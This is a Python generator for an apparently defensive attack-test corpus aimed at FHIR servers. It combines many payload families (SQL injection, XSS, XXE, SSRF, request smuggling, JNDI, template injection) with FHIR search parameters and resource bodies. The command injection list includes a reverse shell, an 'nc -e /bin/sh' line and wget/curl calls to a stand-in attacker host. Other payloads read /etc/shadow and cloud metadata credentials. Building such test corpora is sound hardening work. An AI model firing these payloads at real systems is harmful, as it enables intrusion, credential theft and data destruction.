"""Attack corpus generator: payload families x FHIR injection points. Addresses in payloads are documentation
ranges (RFC 5737) or link-local metadata addresses; nothing in the corpus is ever fetched by the runner."""

from __future__ import annotations

from fhirfort.suites.attack import gen_findings
from fhirfort.suites.attack.corpus import Entry
from fhirfort.suites.attack.gen_common import (
    FJ,
    FX,
    Builder,
    dumps,
    narrative,
    observation,
    patient,
    q,
    search,
    xml_attr,
    xml_resource,
)

EVIL = "198.51.100.7"
SEARCH_POINTS = [
    ("Patient", "name"),
    ("Patient", "family"),
    ("Patient", "identifier"),
    ("Observation", "code"),
    ("Patient", "given"),
    ("Observation", "subject"),
    ("Patient", "address-city"),
    ("Encounter", "patient"),
]


def _spread(
    b: Builder, cls: str, payloads: list[str], note: str, points: list[tuple[str, str]] = SEARCH_POINTS
) -> None:
    for i, p in enumerate(payloads):
        res, param = points[i % len(points)]
        b.add(cls, "GET", search(res, [(param, p)]), note=f"{note} in {res}?{param}")


def _json_bodies(b: Builder, cls: str, payloads: list[str], note: str) -> None:
    """Payloads in Patient.name.family, Observation.valueString, identifier.value, PUT and json-patch values."""
    for i, p in enumerate(payloads):
        slot = i % 5
        if slot == 0:
            b.add(cls, "POST", "{base}/Patient", headers=[FJ], body=dumps(patient(p)), note=f"{note} in name.family")
        elif slot == 1:
            b.add(
                cls,
                "POST",
                "{base}/Observation",
                headers=[FJ],
                body=dumps(observation(p)),
                note=f"{note} in valueString",
            )
        elif slot == 2:
            body = patient("Test", identifier=[{"system": "https://fhirfort.test/mrn", "value": p}])
            b.add(cls, "POST", "{base}/Patient", headers=[FJ], body=dumps(body), note=f"{note} in identifier.value")
        elif slot == 3:
            patch = dumps([{"op": "replace", "path": "/name/0/family", "value": p}])  # type: ignore[arg-type]
            b.add(
                cls,
                "PATCH",
                "{base}/Patient/p-obrien",
                headers=[("Content-Type", "application/json-patch+json")],
                body=patch,
                note=f"{note} in a JSON Patch value",
            )
        else:
            body = patient("Test", telecom=[{"system": "email", "value": p}])
            b.add(
                cls,
                "POST",
                "{base}/Patient/$validate",
                headers=[FJ],
                body=dumps({"resourceType": "Parameters", "parameter": [{"name": "resource", "resource": body}]}),
                note=f"{note} in a $validate Parameters body",
            )


def _xml_bodies(b: Builder, cls: str, payloads: list[str], note: str) -> None:
    """Payloads in FHIR XML, where every primitive value is an attribute: name.family, Observation.valueString
    (a free-text element), identifier.value and telecom.value."""
    for i, p in enumerate(payloads):
        v = xml_attr(p)
        slot = i % 4
        if slot == 0:
            body, where = xml_resource("Patient", f'<name><family value="{v}"/></name>'), "name.family"
        elif slot == 1:
            inner = (
                '<status value="final"/><code><text value="Note"/></code>'
                f'<subject><reference value="Patient/p-obrien"/></subject><valueString value="{v}"/>'
            )
            body, where = xml_resource("Observation", inner), "valueString"
        elif slot == 2:
            inner = f'<identifier><system value="https://fhirfort.test/mrn"/><value value="{v}"/></identifier>'
            body, where = xml_resource("Patient", inner), "identifier.value"
        else:
            inner = f'<telecom><system value="email"/><value value="{v}"/></telecom><name><family value="Test"/></name>'
            body, where = xml_resource("Patient", inner), "telecom.value"
        target = "{base}/Observation" if slot == 1 else "{base}/Patient"
        b.add(cls, "POST", target, headers=[FX], body=body, note=f"{note} in an XML attribute ({where})")


def sqli(b: Builder) -> None:
    payloads = [
        "x' OR '1'='1",
        "1' OR 1=1--",
        "' UNION SELECT username,password FROM pg_shadow--",
        "1;DROP TABLE hfj_resource--",
        "'; WAITFOR DELAY '0:0:5'--",
        "1' AND SLEEP(5)#",
        "1' AND (SELECT 1 FROM pg_sleep(5))--",
        "admin'--",
        "' OR ''='",
        "1) OR (1=1",
        "x' AND extractvalue(1,concat(0x7e,version()))--",
        "1 AND 1=CONVERT(int,@@version)",
        "'; select pg_read_file('/etc/passwd')--",
        "1' ORDER BY 10--",
        "' HAVING 1=1--",
        "1';copy (select '') to program 'id'--",
        "1 UNION ALL SELECT NULL,NULL,table_name FROM information_schema.tables",
        "x'||(SELECT current_user)||'",
        "1' AND 1=(SELECT COUNT(*) FROM hfj_res_ver)--",
        "'; INSERT INTO hfj_resource VALUES (1)--",
        "' or 1 like 1 --",
        "1 or benchmark(10000000,MD5(1))#",
        "';exec master..xp_cmdshell 'dir'--",
        "1' and substring(version(),1,1)='P",
        "%' AND 1=1 AND '%'='",
        '" or ""="',
        "1' RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))--",
        "x' UNION SELECT lo_import('/etc/passwd')--",
        "-1' union select 1,2,3--",
        "1; SELECT * FROM pg_user",
        "x';SELECT CASE WHEN (1=1) THEN pg_sleep(3) ELSE pg_sleep(0) END--",
        "1' /*!50000UNION*/ /*!50000SELECT*/ 1--",
        "ab' AND ascii(lower(substring((select password from users limit 1),1,1)))>100--",
        "1%27%20OR%20%271%27%3D%271",
    ]
    _spread(b, "sqli_search", payloads, "SQLi")
    json_payloads = [
        "O'Brien' OR '1'='1",
        "x'); DROP TABLE hfj_resource;--",
        "' UNION SELECT password FROM users--",
        "1' AND SLEEP(5)--",
        "'; WAITFOR DELAY '0:0:5'--",
        "x' OR 1=1 LIMIT 1--",
        "'||(select version())||'",
        "1;copy hfj_resource to '/tmp/x'--",
        "' AND 1=CAST((SELECT current_setting('server_version')) AS int)--",
        "admin' /*",
        "1 UNION SELECT NULL,NULL--",
        "x' AND pg_sleep(10) IS NULL--",
        "'; DELETE FROM hfj_resource WHERE '1'='1",
        '" OR 1=1 --',
        "1' or '1'='1' /*",
        "') or ('a'='a",
        "x'; update hfj_resource set res_deleted_at=now()--",
        "1 AND (SELECT 1 FROM (SELECT SLEEP(5))a)",
        "' union all select table_name from information_schema.tables--",
        "'; select lo_export(1,'/tmp/pwn')--",
    ]
    _json_bodies(b, "sqli_json", json_payloads, "SQLi")
    _xml_bodies(b, "sqli_json", json_payloads[:8], "SQLi")


def xss(b: Builder) -> None:
    divs = [
        "<p>hi</p><script>alert(document.cookie)</script>",
        '<img src="x" onerror="alert(1)"/>',
        '<iframe src="https://198.51.100.7/"></iframe>',
        '<a href="javascript:alert(1)">click</a>',
        '<svg onload="alert(1)"></svg>',
        '<p style="background:url(javascript:alert(1))">x</p>',
        '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
        '<embed src="https://198.51.100.7/x.swf"/>',
        '<form action="https://198.51.100.7/steal"><input name="pw"/></form>',
        '<p onmouseover="alert(1)">hover</p>',
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
        '<base href="https://198.51.100.7/"/>',
        '<meta http-equiv="refresh" content="0;url=https://198.51.100.7/"/>',
        '<a href="&#106;avascript:alert(1)">x</a>',
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        '<body onload="alert(1)"></body>',
        '<details open="" ontoggle="alert(1)">x</details>',
        '<link rel="stylesheet" href="https://198.51.100.7/x.css"/>',
    ]
    for d in divs:
        res = patient("Narrative", text=narrative(d))
        b.add("xss_narrative", "POST", "{base}/Patient", headers=[FJ], body=dumps(res), note="active XHTML in text.div")
    strings = [
        "<script>alert(1)</script>",
        '"><img src=x onerror=alert(1)>',
        "javascript:alert(document.domain)",
        "<svg/onload=alert(1)>",
        "'-alert(1)-'",
        "<iframe srcdoc='<script>alert(1)</script>'>",
        "<body onload=alert('x')>",
        '"><script src=https://198.51.100.7/x.js></script>',
        "<img src=`x` onerror=prompt(1)>",
        "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
        '<a href="vbscript:msgbox(1)">',
        '<div style="width:expression(alert(1))">',
    ]
    _spread(b, "xss_string", strings, "XSS")
    _json_bodies(b, "xss_string", strings[:9], "XSS")
    _xml_bodies(b, "xss_string", strings[:6], "XSS")


def cmd_injection(b: Builder) -> None:
    payloads = [
        ";cat /etc/passwd",
        "| id",
        "$(id)",
        "`id`",
        f"&& wget http://{EVIL}/x.sh -O /tmp/x.sh",
        f"; nc -e /bin/sh {EVIL} 4444",
        f"|| curl -s http://{EVIL}/$(whoami)",
        f"; bash -i >& /dev/tcp/{EVIL}/4444 0>&1",
        "; /bin/ls -la /",
        "| powershell -enc SQBFAFgA",
        "%0a/usr/bin/id",
        "; sleep 10 #",
        "$(cat${IFS}/etc/shadow)",
        "; python3 -c 'import os;os.system(\"id\")'",
        "& ping -c 10 127.0.0.1 &",
        "; chmod 777 /etc/passwd",
    ]
    _spread(b, "cmd_injection", payloads, "command injection")
    _json_bodies(b, "cmd_injection", payloads[:8], "command injection")
    _xml_bodies(b, "cmd_injection", payloads[:8], "command injection")


def path_traversal(b: Builder) -> None:
    paths = [
        "{base}/Patient/..%2f..%2f..%2fetc%2fpasswd",
        "{base}/Patient/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
        "{base}/Patient/..%252f..%252f..%252fetc%252fpasswd",
        "{base}/Binary/..%5c..%5c..%5cwindows%5cwin.ini",
        "{base}/Patient/....//....//....//etc/passwd",
        "{base}/Patient/p-obrien/_history/..%2f..%2f..%2f..%2fetc%2fshadow",
        "{base}/Patient/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
        "{base}/Patient/..%u2216..%u2216etc%u2216passwd",
        "{base}/Patient/../../../../etc/passwd",
        "{base}/../../../../proc/self/environ",
        "{base}/Patient/%2e%2e%2f%2e%2e%2fWEB-INF%2fweb.xml",
        "{base}/Patient/..;/..;/actuator/env",
    ]
    for p in paths:
        b.add("path_traversal", "GET", p, note="traversal in the resource id / path")
    formats = [
        "../../../../etc/passwd",
        "..%2f..%2f..%2fetc%2fpasswd",
        "/proc/self/environ",
        "....//....//etc/hosts",
        "..\\..\\..\\windows\\win.ini",
        "file:///etc/passwd",
        "/etc/shadow",
        "../../../../usr/share/java/hapi.jar",
    ]
    for i, f in enumerate(formats):
        res = ["Patient", "Observation"][i % 2]
        b.add("path_traversal", "GET", search(res, [("_format", f)]), note="traversal in _format")
    b.add("path_traversal", "GET", search("Patient", [("_include", "../../etc/passwd")]), note="traversal in _include")
    b.add(
        "path_traversal",
        "GET",
        search("Observation", [("subject", "../../../etc/passwd")]),
        note="traversal in a reference",
    )


XML_HEAD = '<?xml version="1.0" encoding="UTF-8"?>\n'


def _xml_patient(family_expr: str, doctype: str) -> str:
    return (
        f"{XML_HEAD}{doctype}\n"
        '<Patient xmlns="http://hl7.org/fhir"><meta><tag><system value="https://fhirfort.test/tags"/>'
        '<code value="attack-suite"/></tag></meta>'
        f'<name><family value="{family_expr}"/></name></Patient>'
    )


def xxe(b: Builder) -> None:
    cases = [
        ('<!DOCTYPE Patient [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', "&xxe;", "external file entity"),
        (
            '<!DOCTYPE Patient [<!ENTITY xxe SYSTEM "http://169.254.169.254/latest/meta-data/">]>',
            "&xxe;",
            "SSRF via entity",
        ),
        (
            f'<!DOCTYPE Patient [<!ENTITY % ext SYSTEM "http://{EVIL}/evil.dtd"> %ext;]>',
            "x",
            "external parameter entity",
        ),
        (f'<!DOCTYPE Patient SYSTEM "http://{EVIL}/evil.dtd">', "x", "external DTD"),
        ('<!DOCTYPE Patient [<!ENTITY xxe SYSTEM "file:///proc/self/environ">]>', "&xxe;", "environment via entity"),
        ('<!DOCTYPE Patient [<!ENTITY xxe SYSTEM "jar:file:///tmp/x.zip!/a">]>', "&xxe;", "jar: entity"),
        (
            '<!DOCTYPE Patient [<!ENTITY xxe SYSTEM "php://filter/read=convert.base64-encode/resource=/etc/passwd">]>',
            "&xxe;",
            "php filter",
        ),
        ('<!DOCTYPE Patient [<!ENTITY xxe SYSTEM "netdoc:///etc/passwd">]>', "&xxe;", "netdoc: entity"),
        ('<!DOCTYPE Patient [<!ENTITY xxe SYSTEM "gopher://127.0.0.1:5432/_x">]>', "&xxe;", "gopher entity"),
        (
            "<!DOCTYPE Patient [<!ENTITY % a \"<!ENTITY b SYSTEM 'file:///etc/hostname'>\"> %a;]>",
            "&b;",
            "nested parameter entity",
        ),
        ('<!DOCTYPE Patient PUBLIC "-//X//Y" "http://198.51.100.7/x.dtd">', "x", "public external DTD"),
        ('<!DOCTYPE Patient [<!ENTITY xxe SYSTEM "expect://id">]>', "&xxe;", "expect: entity"),
    ]
    for doctype, expr, note in cases:
        b.add("xxe", "POST", "{base}/Patient", headers=[FX], body=_xml_patient(expr, doctype), note=f"XXE: {note}")
    laughs = "".join(f'<!ENTITY l{i} "{("&l" + str(i - 1) + ";") * 10}">' for i in range(1, 10))
    b.add(
        "xxe",
        "POST",
        "{base}/Patient",
        headers=[FX],
        body=_xml_patient("&l9;", f'<!DOCTYPE Patient [<!ENTITY l0 "lol">{laughs}]>'),
        note="billion laughs entity expansion",
    )
    b.add(
        "xxe",
        "POST",
        "{base}/Patient",
        headers=[FX],
        body_gen={"kind": "quadratic_blowup", "entity_len": 50000, "refs": 150},
        note="quadratic blowup entity expansion",
    )
    xinclude = (
        f'{XML_HEAD}<Patient xmlns="http://hl7.org/fhir" xmlns:xi="http://www.w3.org/2001/XInclude">'
        '<name><family value="x"/></name><xi:include parse="text" href="file:///etc/passwd"/></Patient>'
    )
    b.add("xxe", "POST", "{base}/Patient", headers=[FX], body=xinclude, note="XInclude of a local file")
    b.add(
        "xxe",
        "POST",
        "{base}/Patient",
        headers=[("Content-Type", "application/xml")],
        body=_xml_patient("&xxe;", '<!DOCTYPE Patient [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'),
        note="XXE with application/xml",
    )
    b.add(
        "xxe",
        "POST",
        "{base}",
        headers=[FX],
        body=(
            f'{XML_HEAD}<!DOCTYPE Bundle [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
            '<Bundle xmlns="http://hl7.org/fhir"><type value="transaction"/><entry><resource><Patient>'
            '<name><family value="&xxe;"/></name></Patient></resource>'
            '<request><method value="POST"/><url value="Patient"/></request></entry></Bundle>'
        ),
        note="XXE in a transaction Bundle",
    )


def ssrf(b: Builder) -> None:
    urls = [
        "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
        "http://127.0.0.1:8080/actuator/env",
        "http://[::1]:5432/",
        "http://0x7f000001/",
        "http://metadata.google.internal/computeMetadata/v1/",
        "file:///etc/passwd",
        "gopher://127.0.0.1:25/_HELO",
        "dict://127.0.0.1:11211/stats",
        "http://198.18.30.10:5432/",
        "http://2130706433/admin",
        "ftp://198.51.100.7/x",
        "http://169.254.170.2/v2/credentials",
    ]
    for i, u in enumerate(urls[:8]):
        res, param = [
            ("Observation", "subject"),
            ("Encounter", "patient"),
            ("Observation", "patient"),
            ("Patient", "general-practitioner"),
        ][i % 4]
        b.add("ssrf", "GET", search(res, [(param, u)]), note="absolute internal URL as a reference search value")
    for u in urls[8:]:
        b.add(
            "ssrf",
            "GET",
            search("Observation", [("_include", f"Observation:subject:{u}")]),
            note="absolute URL in _include",
        )
    for u in urls[:6]:
        body = observation("x", subject=u + "Patient/1")
        b.add("ssrf", "POST", "{base}/Observation", headers=[FJ], body=dumps(body), note="internal URL as a reference")
    b.add(
        "ssrf",
        "GET",
        search("Patient", [("_include", "Patient:general-practitioner"), ("_source", urls[0])]),
        note="metadata URL in _source",
    )
    b.add(
        "ssrf",
        "GET",
        "{base}/Patient?_getpages=http%3A%2F%2F169.254.169.254%2Flatest%2F",
        note="metadata URL in _getpages",
    )


def _raw(b: Builder, text: str, note: str, method: str = "GET", target: str = "{base}/metadata") -> None:
    b.add("smuggling", method, target, raw=text, note=note)


def smuggling(b: Builder) -> None:
    h = "Host: {host}\r\n{auth}"
    smug = "GET /admin HTTP/1.1\r\nHost: {host}\r\n\r\n"
    cases = [
        (
            f"POST {{base}}/Patient/_search HTTP/1.1\r\n{h}Content-Type: application/x-www-form-urlencoded\r\n"
            f"Content-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{smug}",
            "CL.TE conflict",
        ),
        (
            f"POST {{base}}/Patient/_search HTTP/1.1\r\n{h}Transfer-Encoding: chunked\r\nContent-Length: 3\r\n\r\n"
            "8\r\nSMUGGLED\r\n0\r\n\r\n",
            "TE.CL conflict",
        ),
        (
            f"POST {{base}}/Patient/_search HTTP/1.1\r\n{h}Content-Length: 5\r\nContent-Length: 40\r\n\r\nname=",
            "duplicate Content-Length",
        ),
        (
            f"POST {{base}}/Patient/_search HTTP/1.1\r\n{h}Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n",
            "TE list chunked, identity",
        ),
        (
            f"POST {{base}}/Patient/_search HTTP/1.1\r\n{h}Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n",
            "unknown transfer coding",
        ),
        (
            f"POST {{base}}/Patient/_search HTTP/1.1\r\n{h}Transfer-Encoding : chunked\r\n"
            "Content-Length: 4\r\n\r\n0\r\n\r\n",
            "space before colon",
        ),
        (
            f"POST {{base}}/Patient/_search HTTP/1.1\r\n{h}Transfer-Encoding:\x0bchunked\r\n\r\n0\r\n\r\n",
            "vertical tab in TE",
        ),
        (f"POST {{base}}/Patient/_search HTTP/1.0\r\n{h}Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n", "TE on HTTP/1.0"),
        (
            f"POST {{base}}/Patient/_search HTTP/1.1\r\n{h}Transfer-Encoding: chunked\r\n\r\nzz\r\nxx\r\n0\r\n\r\n",
            "invalid chunk size",
        ),
        (f"POST {{base}}/Patient/_search HTTP/1.1\r\n{h}Content-Length: -1\r\n\r\n", "negative Content-Length"),
        (f"POST {{base}}/Patient/_search HTTP/1.1\r\n{h}Content-Length: 1e3\r\n\r\n", "non-numeric Content-Length"),
        ("GET {base}/metadata HTTP/1.1\r\nHost: {host}\r\nHost: 198.51.100.7\r\n{auth}\r\n", "duplicate Host"),
        ("GET {base}/metadata HTTP/1.1\r\nHost: {host}\r\n{auth}X-Obs: a\r\n folded\r\n\r\n", "obs-fold continuation"),
        ("GET {base}/metadata HTTP/1.1\r\n Host: {host}\r\n{auth}\r\n", "leading whitespace before the first header"),
        (
            "GET {base}/metadata HTTP/1.1\r\nHost: {host}\r\n{auth}X-Big: " + "A" * 12000 + "\r\n\r\n",
            "oversized header (12 kB)",
        ),
        (
            "GET {base}/metadata HTTP/1.1\r\nHost: {host}\r\n{auth}"
            + "".join(f"X-H{i}: {'b' * 100}\r\n" for i in range(200))
            + "\r\n",
            "200 headers of 100 bytes",
        ),
        ("GET {base}/metadata HTTP/1.1\r\nHost: {host}\r\n{auth}X-Nul: a\x00b\r\n\r\n", "NUL byte in a header value"),
        (
            f"POST {{base}}/Patient/_search HTTP/1.1\r\n{h}Transfer-Encoding: chunked\r\n\r\n"
            "FFFFFFFFFFFFFFFFFF\r\nx\r\n0\r\n\r\n",
            "chunk size overflow",
        ),
        ("GET {base}/metadata HTTP/1.1\rHost: {host}\r\r", "bare CR line endings"),
        (
            "GET https://198.51.100.7{base}/metadata HTTP/1.1\r\nHost: {host}\r\n{auth}\r\n",
            "absolute-form target to another host",
        ),
        ("GET {base}/metadata HTTP/1.1\r\nHost: 198.51.100.7\r\n{auth}\r\n", "foreign Host after a valid SNI"),
        ("GET {base}/metadata HTTP/1.1\r\n{auth}\r\n", "HTTP/1.1 without Host"),
        ("GET {base}/meta data HTTP/1.1\r\nHost: {host}\r\n{auth}\r\n", "space in the request-target"),
        ("GET {base}/metadata HTTP/9.9\r\nHost: {host}\r\n{auth}\r\n", "unknown HTTP version"),
        ("GET {base}/metadata HTTP/1.1\r\nHost: {host}\r\n{auth}Bad Header: x\r\n\r\n", "space in a header name"),
        (
            "GET {base}/metadata HTTP/1.1\r\nHost: {host}:8443\r\n{auth}Content-Length: 0\r\n"
            "Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
            "GET with CL and TE",
        ),
    ]
    for text, note in cases:
        _raw(b, text, note)


def oversize(b: Builder) -> None:
    b.add(
        "oversize",
        "POST",
        "{base}/Patient",
        headers=[FJ],
        body_gen={"kind": "padded_json", "mib": 11},
        note="11 MiB body (limit 10)",
    )
    b.add(
        "oversize",
        "POST",
        "{base}/Patient",
        headers=[FJ],
        body_gen={"kind": "nested_json", "depth": 200},
        note="JSON nested 200 deep",
    )
    b.add(
        "oversize",
        "POST",
        "{base}/Patient",
        headers=[FJ],
        body_gen={"kind": "nested_json", "depth": 5000},
        note="JSON nested 5000 deep",
    )
    b.add(
        "oversize",
        "POST",
        "{base}/Patient",
        headers=[FX],
        body_gen={"kind": "nested_xml", "depth": 5000},
        note="XML nested 5000 deep",
    )
    b.add(
        "oversize",
        "POST",
        "{base}",
        headers=[FJ],
        body_gen={"kind": "wide_bundle", "entries": 12000},
        note="Bundle with 12000 leaves (args limit)",
    )
    b.add(
        "oversize",
        "POST",
        "{base}/Patient",
        headers=[FJ],
        body_gen={"kind": "wide_array", "items": 20000},
        note="20000-element array",
    )
    b.add("oversize", "GET", "{base}/Patient?name=" + "A" * 9000, note="9 kB request line")
    b.add("oversize", "GET", "{base}/Patient?" + "&".join(f"p{i}=x" for i in range(2500)), note="2500 query parameters")
    b.add("oversize", "GET", "{base}/metadata", headers=[("X-Pad", "B" * 9000)], note="9 kB header")
    b.add(
        "oversize",
        "GET",
        "{base}/metadata",
        headers=[("Cookie", "; ".join(f"c{i}={'v' * 60}" for i in range(150)))],
        note="10 kB Cookie",
    )
    b.add(
        "oversize",
        "POST",
        "{base}/Patient/_search",
        headers=[("Content-Type", "application/x-www-form-urlencoded")],
        body_gen={"kind": "form_args", "count": 12000},
        note="12000 form arguments",
    )
    b.add(
        "oversize",
        "POST",
        "{base}/Patient",
        headers=[FJ],
        body_gen={"kind": "padded_json", "mib": 64},
        note="64 MiB body",
    )


def scanners(b: Builder) -> None:
    agents = [
        "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)",
        "sqlmap/1.7.2#stable (https://sqlmap.org)",
        "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
        "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
        "DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)",
        "w3af.org",
        "Mozilla/5.0 (compatible; Acunetix Web Vulnerability Scanner)",
        "Nessus SOAP",
        "OpenVAS",
        "ZmEu",
        "WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)",
        "Arachni/v1.5.1",
        "Havij",
        "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
        "jaascois",
        "gobuster/3.6",
    ]
    for ua in agents:
        b.add(
            "scanner",
            "GET",
            "{base}/Patient?_count=1",
            headers=[("User-Agent", ua)],
            note=f"scanner User-Agent {ua.split()[0]}",
        )
    b.add("scanner", "GET", "{base}/metadata", headers=[("Acunetix-Product", "WVS/5.0")], note="Acunetix header")
    b.add("scanner", "GET", "{base}/metadata", headers=[("X-Scanner", "Netsparker")], note="Netsparker header")


def methods(b: Builder) -> None:
    for verb in [
        "TRACE",
        "TRACK",
        "CONNECT",
        "PROPFIND",
        "PROPPATCH",
        "MKCOL",
        "COPY",
        "MOVE",
        "LOCK",
        "UNLOCK",
        "DEBUG",
        "FOO",
        "SEARCH",
        "PURGE",
        "REPORT",
        "BREW",
    ]:
        target = "{base}/Patient/p-obrien" if verb != "CONNECT" else "{base}/metadata"
        b.add("method_tampering", verb, target, note=f"{verb} on a FHIR resource")
    b.add("method_tampering", "DELETE", "/", note="DELETE outside the FHIR base")
    b.add(
        "method_tampering",
        "PUT",
        "/index.html",
        headers=[("Content-Type", "text/html")],
        body="<p>x</p>",
        note="PUT outside the FHIR base",
    )
    b.add(
        "method_tampering",
        "GET",
        "{base}/Patient/p-obrien",
        headers=[("X-HTTP-Method-Override", "DELETE")],
        note="X-HTTP-Method-Override",
    )
    b.add(
        "method_tampering",
        "POST",
        "{base}/Patient/p-obrien",
        headers=[("X-Method-Override", "PUT"), FJ],
        body="{}",
        note="X-Method-Override",
    )
    b.add("method_tampering", "GET", "{base}/Patient/p-obrien?_method=DELETE", note="_method=DELETE")


def formats(b: Builder) -> None:
    for fmt in [
        "html",
        "text/html",
        "application/x-php",
        "application/x-java-serialized-object",
        "text/javascript",
        "image/svg+xml",
    ]:
        b.add("format_confusion", "GET", search("Patient", [("_format", fmt)]), note=f"_format={fmt}")
    body = dumps(patient("Format"))
    for ctype in [
        "text/plain",
        "multipart/form-data; boundary=x",
        "application/x-java-serialized-object",
        "text/html",
        "application/fhir+json; charset=utf-7",
        "application/fhir+json; charset=ibm037",
        "application/octet-stream",
        "application/x-yaml",
    ]:
        b.add(
            "format_confusion",
            "POST",
            "{base}/Patient",
            headers=[("Content-Type", ctype)],
            body=body,
            note=f"Content-Type {ctype}",
        )
    b.add(
        "format_confusion",
        "POST",
        "{base}/Patient",
        headers=[("Content-Type", "application/x-java-serialized-object")],
        body="\u00ac\u00ed\u0000\u0005sr\u0000\u0017java.util.PriorityQueue",
        note="Java serialised object",
    )
    b.add(
        "format_confusion",
        "GET",
        "{base}/Patient?_count=1",
        headers=[("Accept", "text/html")],
        note="Accept text/html (HAPI HTML view)",
    )


def jndi(b: Builder) -> None:
    payloads = [
        f"${{jndi:ldap://{EVIL}:1389/a}}",
        f"${{jndi:rmi://{EVIL}:1099/a}}",
        f"${{jndi:dns://{EVIL}/a}}",
        f"${{${{lower:j}}ndi:${{lower:l}}dap://{EVIL}/a}}",
        f"${{${{::-j}}${{::-n}}${{::-d}}${{::-i}}:rmi://{EVIL}/a}}",
        "${env:AWS_SECRET_ACCESS_KEY}",
        f"${{jndi:ldaps://{EVIL}/${{sys:java.version}}}}",
        f"${{${{env:NaN:-j}}ndi${{env:NaN:-:}}${{env:NaN:-l}}dap${{env:NaN:-:}}//{EVIL}/a}}",
    ]
    for header in ["User-Agent", "X-Api-Version", "Referer", "X-Forwarded-For", "Cookie"]:
        b.add(
            "jndi",
            "GET",
            "{base}/metadata",
            headers=[(header, payloads[len(b.entries) % len(payloads)])],
            note=f"JNDI in {header}",
        )
    _spread(b, "jndi", payloads, "JNDI")
    _json_bodies(b, "jndi", payloads[:6], "JNDI")
    b.add("jndi", "GET", "{base}/Patient?name=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.7%2Fa%7D", note="URL-encoded JNDI")


def nosql(b: Builder) -> None:
    gets = [
        "{base}/Patient?name[$ne]=x",
        "{base}/Patient?family[$gt]=",
        "{base}/Patient?name[$regex]=.*",
        "{base}/Patient?_id[$nin][]=1",
        "{base}/Patient?" + q([("name", "';return true;var x='")]),
        "{base}/Patient?" + q([("name", '{"$where": "sleep(5000)"}')]),
        "{base}/Patient?" + q([("name", "true, $where: '1 == 1'")]),
        "{base}/Patient?name[$exists]=true",
    ]
    for g in gets:
        b.add("nosql_injection", "GET", g, note="MongoDB operator in a query parameter")
    bodies = [
        {"resourceType": "Patient", "name": [{"family": {"$ne": None}}]},
        {"resourceType": "Patient", "name": [{"family": {"$gt": ""}}]},
        {"resourceType": "Patient", "$where": "this.name.length > 0 || sleep(5000)"},
        {"resourceType": "Patient", "name": [{"family": {"$regex": "^a.*"}}]},
        {"resourceType": "Patient", "id": {"$in": ["1", "2"]}},
        {"resourceType": "Patient", "name": [{"family": "x'; return db.users.find(); var y='"}]},
    ]
    for body in bodies:
        b.add(
            "nosql_injection", "POST", "{base}/Patient", headers=[FJ], body=dumps(body), note="MongoDB operator in JSON"
        )


def ldap(b: Builder) -> None:
    payloads = [
        "*)(uid=*))(|(uid=*",
        "admin)(&)",
        "*)(objectClass=*",
        "*)(|(password=*)",
        "x)(|(cn=*)(userPassword=*))",
        "*))%00",
        "admin)(!(&(1=0",
        "*()|&'",
        ")(cn=*))(|(cn=*",
        "*)(memberOf=cn=admins,dc=example,dc=org",
    ]
    _spread(b, "ldap_injection", payloads, "LDAP filter injection")
    _json_bodies(b, "ldap_injection", payloads[:4], "LDAP filter injection")
    _xml_bodies(b, "ldap_injection", payloads[:4], "LDAP filter injection")


def ssti(b: Builder) -> None:
    payloads = [
        "{{7*7}}",
        "${7*7}",
        "<%= 7*7 %>",
        "#{7*7}",
        "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
        "${T(java.lang.Runtime).getRuntime().exec('id')}",
        "*{T(java.lang.Runtime).getRuntime().exec('id')}",
        "{{''.__class__.__mro__[1].__subclasses__()}}",
        '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}',
        "#set($x='')$x.class.forName('java.lang.Runtime').getRuntime().exec('id')",
        "{php}echo `id`;{/php}",
        "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
        "${''.getClass().forName('java.lang.ProcessBuilder')}",
        "{{_self.env.registerUndefinedFilterCallback('exec')}}{{_self.env.getFilter('id')}}",
    ]
    _spread(b, "ssti", payloads, "template injection")
    _json_bodies(b, "ssti", payloads[:6], "template injection")
    _xml_bodies(b, "ssti", payloads[:4], "template injection")


def generate() -> list[Entry]:
    b = Builder("attack", "atk")
    for family in (
        sqli,
        xss,
        cmd_injection,
        path_traversal,
        xxe,
        ssrf,
        smuggling,
        oversize,
        scanners,
        methods,
        formats,
        jndi,
        nosql,
        ldap,
        ssti,
    ):
        family(b)
    gen_findings.attacks(b)  # red-team findings 2026-12, appended so earlier ids stay stable
    return b.entries
